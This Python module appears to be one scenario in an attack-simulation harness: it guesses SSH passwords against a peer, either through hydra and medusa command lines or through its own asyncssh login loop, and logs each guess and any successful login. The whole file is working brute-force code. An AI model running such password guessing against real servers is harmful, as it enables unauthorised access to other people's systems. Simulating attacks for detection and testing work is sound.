"""Password guessing at an SSH login, by hydra, by medusa and by a client of our own."""

from __future__ import annotations

import contextlib
import re

from common import FAILURES, Session, emit, main, word
from common_shop import PASSWORDS
from common_tool import home, run_tool

MAX_GUESSES = 60


async def act(session: Session) -> None:
    """Guess; the effect is a login."""
    found = 0
    try:
        guesses = wordlist(session)
        if session.params["variant"] == "own":
            found = await _ours(session, guesses)
        else:
            found = _by_tool(session, str(session.params["variant"]), guesses)
    finally:
        emit("effect", success=found > 0, found=found, guesses=len(guesses))


def wordlist(session: Session) -> list[str]:
    """What to try; in some lists the password is there."""
    from common_ssh import PASSWORD

    rng, count = session.rng, min(int(session.params["guesses"]), MAX_GUESSES)
    guesses = rng.sample(PASSWORDS, min(count, len(PASSWORDS)))
    if session.params["knows"]:
        guesses.insert(rng.randrange(len(guesses) + 1), PASSWORD)
    return guesses


async def _ours(session: Session, guesses: list[str]) -> int:
    """A connection for each few guesses, as servers close them after some."""
    import asyncssh
    from common_ssh import Dialer, client_options

    options, user = client_options(session.rng) | {"client_keys": None}, word(session.rng)
    for guess in guesses:
        try:
            connection = await asyncssh.connect(
                session.peer["address"], session.port, tunnel=Dialer(session), username=user,
                password=guess, **options,
            )  # fmt: skip
        except (asyncssh.Error, *FAILURES) as error:
            emit("guess", ok=False, error=type(error).__name__)
        else:
            emit("guess", ok=True)
            connection.close()
            with contextlib.suppress(*FAILURES):
                await connection.wait_closed()
            return 1
        if not await session.sleep(session.rng.expovariate(float(session.params["rate_s"]))):
            break
    return 0


def _by_tool(session: Session, tool: str, guesses: list[str]) -> int:
    address, port, user = session.peer["address"], str(session.port), word(session.rng)
    parallel = str(session.params["parallel"])
    with home() as folder:
        (folder / "words").write_text("\n".join(guesses) + "\n")
        if tool == "hydra":
            command = ["hydra", "-l", user, "-P", "words", "-I", "-f", "-t", parallel, "-s", port]
            said = run_tool(session, [*command, address, "ssh"], folder, fine=None).output
            return len(re.findall(r"password: \S+", said))
        command = ["medusa", "-h", address, "-n", port, "-u", user, "-P", "words", "-M", "ssh"]
        said = run_tool(session, [*command, "-f", "-t", parallel], folder, fine=None).output
        return len(re.findall(r"ACCOUNT FOUND", said))


if __name__ == "__main__":
    main(None, act)
